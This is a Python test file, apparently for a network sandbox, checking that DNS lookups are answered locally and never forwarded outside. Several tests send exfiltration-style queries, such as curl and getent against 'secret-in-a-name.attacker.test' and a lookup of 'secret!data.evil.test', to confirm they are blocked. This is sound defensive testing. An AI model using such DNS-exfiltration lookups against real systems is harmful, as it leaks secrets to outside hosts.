#!/usr/bin/env python3
"""C80: whatever the host's resolv.conf says, names are answered inside, at once, over UDP and TCP; none is asked outside."""
import os

import client
import dnsserver
import exeat
import netns
import tap
import work
from pki import Pki
from servers import RawServer

netns.enter(addresses=["10.9.0.1/24"])
IMPATIENT = "attempts:1 timeout:30"  # what is not answered at once is not found

ASK = r'''
import socket, struct, sys
def ask(name, kind, tcp=False, edns=False, server="127.0.0.1"):
    q = struct.pack(">6H", 7, 0x100, 1, 0, 0, 1 if edns else 0)
    q += b"".join(bytes([len(l)]) + l.encode() for l in name.split(".") if l) + b"\0" + struct.pack(">2H", kind, 1)
    if edns:
        q += b"\0\0\x29\x10\0\0\0\x80\0\0\0"
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM if tcp else socket.SOCK_DGRAM)
    s.settimeout(4.5)  # resolvers give up on a server after five seconds
    s.connect((server, 53))
    s.send(struct.pack(">H", len(q)) + q if tcp else q)
    a = s.recv(2000)
    if tcp:
        a = a[2:]
    return "rcode %d answers %d" % (a[3] & 15, struct.unpack(">H", a[6:8])[0])
for kind, label in ((1, "A"), (28, "AAAA"), (65, "HTTPS"), (33, "SRV"), (16, "TXT"), (15, "MX"), (255, "ANY"), (64, "SVCB"), (2, "NS"), (6, "SOA"), (35, "NAPTR")):
    for tcp in (False, True):
        for edns in (False, True):
            print("%s %s %s: %s" % (label, tcp, edns, ask("a.test", kind, tcp, edns)))
print("bad:", ask("a b.test", 1))
for server in ("127.0.0.53", "127.0.0.11", "10.96.0.10", "8.8.8.8"):
    print(server + ":", ask("a.test", 1, server=server))
'''


@tap.test
def every_question_has_its_answer(_t):
    r = exeat.run(None, ["python3", "-c", ASK])
    got = dict(line.split(": ", 1) for line in r.out.splitlines())
    tap.equal(len(got), 44 + 5)
    for label, text in got.items():
        if label == "bad":
            tap.equal(text, "rcode 5 answers 0")
        elif label.split()[0] in ("A", "AAAA"):
            tap.equal(text, "rcode 0 answers 1", label)
        elif " " in label:
            tap.equal(text, "rcode 0 answers 0", label)
        else:
            tap.equal(text, "rcode 0 answers 1", label)


@tap.test
def a_names_address_of_ipv4_comes_first_and_what_is_local_is_as_outside(_t):
    if not os.path.exists("/etc/gai.conf"):
        tap.skip("the C library's own order stays where there is no /etc/gai.conf to lay one over")
    r = exeat.run(None, "getent ahosts a.test | awk '{print $1}'; echo; getent ahosts localhost | head -n 1")
    addresses, local = r.out.split("\n\n")
    tap.ok(":" not in addresses.split()[0] and ":" in addresses.split()[-1], addresses)
    tap.equal(local.strip(), work.sh("sh", "-c", "getent ahosts localhost | head -n 1").strip())


@tap.test
def no_question_is_asked_outside_for_what_is_denied(t):
    if not work.is_root():
        tap.skip("needs root to prepare")
    names = {"secret-in-a-name.attacker.test": ["192.0.2.1"], "permitted.test": ["192.0.2.1"]}
    server = t.use(dnsserver.DnsServer(names, address="10.9.0.1", port=53))
    folder = with_resolv("nameserver 10.9.0.1\n")
    policy = work.write(os.path.join(work.folder(), "policy"), "allow GET http://permitted.test/**\n")
    r = exeat.run(None, [], user="root", program_args=mounted(folder, (
        "getent hosts secret-in-a-name.attacker.test; for n in secret-in-a-name.attacker.test permitted.test; do "
        "curl -s -o /dev/null -w '%{http_code}\n' http://$n/; done"), "--policy", policy))
    tap.equal(r.out.split()[1:], ["secret-in-a-name.attacker.test", "403", "502"], r)
    tap.equal({q[0] for q in server.queries}, {"permitted.test"})


def with_resolv(text=None, link=None):
    """A copy of /etc with this resolv.conf."""
    folder = work.folder("etc.")
    work.sh("cp", "-a", "/etc/.", folder)
    work.replace(os.path.join(folder, "resolv.conf"), link, text)
    return folder


def mounted(folder, command, *options):
    """exeat on a host with this /etc, and with a name of its own whose domain resolvers take for a search list"""
    state = work.folder("state.", mode=0o700)
    return ["unshare", "--mount", "--uts", "--propagation", "private", "sh", "-c",
            'echo box.corp.test >/proc/sys/kernel/hostname && mount --bind "$1" /etc && shift && exec "$@"', "sh", folder, exeat.program(),
            "run", *options, "--state", state, "--log", state + "/log", "--", "sh", "-c", command]


@tap.test
def any_resolv_conf_of_the_host_will_do(t):
    if not work.is_root():
        tap.skip("needs root to prepare")
    stub = work.write(os.path.join(work.folder(), "stub"), "nameserver 127.0.0.53\nsearch corp.test\noptions ndots:5\n")
    missing = {"link": "/no/such/file"}
    for kind in ({"text": "nameserver 127.0.0.53\noptions edns0 trust-ad\n"}, {"text": "nameserver ::1\n"}, {"text": "nameserver 127.0.0.11\n"},
                 missing, {"link": stub},
                 {"text": "nameserver 192.0.2.1\nnameserver 192.0.2.2\nnameserver 192.0.2.3\nsearch a.test\n"}):
        # a name without a dot is asked for with the domain first where there is no file to lay ours over
        names = ["a.test"] if kind is missing else ["a.test", "git"]
        r = exeat.run(None, [], user="root", env={"RES_OPTIONS": "ndots:9", "LOCALDOMAIN": "corp.test"}, program_args=mounted(with_resolv(**kind), (
            "for n in %s; do RES_OPTIONS='%s' getent ahostsv4 $n | head -n 1; curl -s -o /dev/null -w '%%{http_code}\n' http://$n/; done; getent ahosts box.corp.test | head -n 1"
            % (" ".join(names), IMPATIENT))))
        tap.equal([line[:7] for line in r.out.splitlines()], ["198.19.", "403"] * len(names) + ["127.0.1"],
                  "%r: another name was asked for than the request's, out of a search list?" % kind)


NODE = """
const dns = require('dns').promises;
const tell = async (what, f) => { try { console.log(what, JSON.stringify(await f())) } catch (e) { console.log(what, e.code) } };
(async () => {
  for (const servers of [null, ['8.8.8.8'], ['[2001:4860:4860::8888]'], ['127.0.0.53', '1.1.1.1']]) {
    const r = new dns.Resolver({timeout: 20000, tries: 1});
    if (servers) r.setServers(servers);
    await tell('A', () => r.resolve4('a.test').then(x => x.length));
    await tell('AAAA', () => r.resolve6('a.test').then(x => x.length));
    for (const kind of ['TXT', 'SRV', 'MX', 'NS', 'CAA', 'NAPTR']) await tell(kind, () => r.resolve('a.test', kind).then(x => x.length));
  }
  await tell('lookup', () => dns.lookup('a.test', {all: true}).then(x => x.length));
})()
"""


@tap.test
def a_resolver_that_a_client_brings_along(t):
    """node's own, which asks without the C library, and whatever server it is given"""
    del t
    work.need("node")
    r = exeat.run(None, ["node", "-e", NODE])
    lines = [line.split() for line in r.out.splitlines()]
    tap.equal(len(lines), 4 * 8 + 1, r)
    for what, *said in lines[:-1]:
        tap.equal(said, ["1"] if what in ("A", "AAAA") else ["ENODATA"], what)
    tap.equal(lines[-1], ["lookup", "2"])


@tap.test
def the_c_library_however_it_is_told_to_ask(t):
    """Over TCP alone, without EDNS, one query at a time, with a search list of the sandbox's own; and other languages by it"""
    del t
    for options in ("use-vc", "edns0", "single-request", "single-request-reopen", "no-aaaa", "trust-ad", "ndots:15", "rotate"):
        r = exeat.run(None, "export RES_OPTIONS='%s %s' LOCALDOMAIN='corp.test other.test'; for n in a.test b.c.test a.test.; do getent ahosts $n || echo none; done; "
                      "python3 -c 'import socket; print(socket.gethostbyname(\"a.test\"))'; "
                      "perl -e 'print join(\".\", unpack(\"C4\", gethostbyname(\"a.test\"))), \"\\n\"'" % (options, IMPATIENT))
        lines = r.out.split("\n")
        tap.lacks(r.out, "none", options)
        tap.ok(len([line for line in lines if line.startswith("198.19.")]) >= 5, "%s: %s" % (options, r))
        tap.equal(r.decisions, [])


POLICY = "allow GET https://a.test/**\n"
pki = Pki()
TOLD = '''
    def question(name, qtype, edns=False):
        out = struct.pack(">HHHHHH", 0x4242, 0x0100, 1, 0, 0, 1 if edns else 0)
        for label in name.split("."):
            out += bytes([len(label)]) + label.encode("latin-1")
        out += b"\\0" + struct.pack(">HH", qtype, 1)
        return out + (b"\\0" + struct.pack(">HHIH", 41, 1232, 0, 0) if edns else b"")

    def told(reply):
        fields = struct.unpack(">HHHHHH", reply[:12])
        return [fields[0] == 0x4242, fields[1] & 15, fields[3]]

    def udp(server, name, qtype, edns=False):
        with socket.socket(socket.AF_INET6 if ":" in server else socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.settimeout(4.5)
            s.connect((server, 53))
            s.send(question(name, qtype, edns))
            return told(s.recv(4096))

    def over_tcp(server, name, qtype):
        with socket.create_connection((server, 53), 4.5) as s:
            q = question(name, qtype)
            s.sendall(struct.pack(">H", len(q)) + q)
            reply = b""
            while len(reply) < 2 or len(reply) < 2 + struct.unpack(">H", reply[:2])[0]:
                reply += s.recv(4096)
            return told(reply[2:])
'''


@tap.test
def every_server_that_a_resolv_conf_may_name(t):
    del t
    r = client.run(POLICY, TOLD + '''
    for server in ("127.0.0.53", "127.0.0.11", "127.0.0.1", "::1", "8.8.8.8", "10.0.0.2", "2001:4860:4860::8888", "fd00::53"):
        report(server, udp(server, "a.test", 1), udp(server, "a.test", 1, True), over_tcp(server, "a.test", 1))
    ''')
    tap.equal(len(r.reports), 8)
    for server, *answers in r.reports:
        tap.equal(answers, [[True, 0, 1]] * 3, server)


@tap.test
def what_is_refused_is_refused_at_once(t):
    del t
    r = client.run(POLICY, TOLD + '''
    for name in ("no host", "a\\x00b.test", "secret!data.evil.test", "x" * 63 + "." + "\\xff" * 10 + ".test", "use-application-dns.net"):
        report(udp("8.8.8.8", name, 1), over_tcp("8.8.8.8", name, 1))
    ''')
    tap.equal(len(r.reports), 5)
    for answers in r.reports:
        tap.ok(all(a[0] and a[1] in (3, 5) and a[2] == 0 for a in answers), answers)


@tap.test
def names_are_found_in_no_time_and_the_request_goes_through(t):
    server = t.use(RawServer(tls=pki.leaf("a.test")))
    r = client.run(POLICY, '''
        took = []
        for i in range(20):
            start = time.monotonic()
            socket.getaddrinfo("n%d.test" % i, 443)
            took.append(time.monotonic() - start)
        report(min(took))  # the machine may be busy
        report(tls("a.test").get("/").status)
    ''', resolve=[server.resolve("a.test")], upstream_ca=pki.ca)
    tap.ok(r.reports[0] < 0.05, "slow: %s" % r.reports[0])
    tap.equal(r.reports[1], 200)


tap.main()
